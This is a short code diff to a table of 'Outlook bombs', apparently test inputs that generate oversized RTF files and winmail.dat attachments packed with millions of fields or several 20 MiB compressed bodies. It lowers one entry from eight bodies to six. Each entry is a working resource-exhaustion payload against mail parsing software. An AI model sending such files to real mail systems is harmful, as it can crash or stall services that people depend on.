@@ -41,5 +41,5 @@ OUTLOOK_BOMBS = {
     "rtf, 2,000,000 fields": Bomb("a.rtf", lambda: b"{\\rtf1" + FIELD * 2000000 + b"}", False),
     "rtf, 2,000,000 templates": Bomb("a.rtf", lambda: b"{\\rtf1" + b"\\template" * 2000000 + b"}", True),
     "winmail.dat, 3,000,000 fields": Bomb("winmail.dat", lambda: winmail((0x10090102, compressed(b"{\\rtf1", FIELD, 30 << 20))), False),
-    "winmail.dat, 8 bodies of 20 MiB": Bomb("winmail.dat", lambda: winmail(*[(0x10090102, compressed(b"{\\rtf1", FIELD, 20 << 20))] * 8), False),
+    "winmail.dat, 6 bodies of 20 MiB": Bomb("winmail.dat", lambda: winmail(*[(0x10090102, compressed(b"{\\rtf1", FIELD, 20 << 20))] * 6), False),
 }
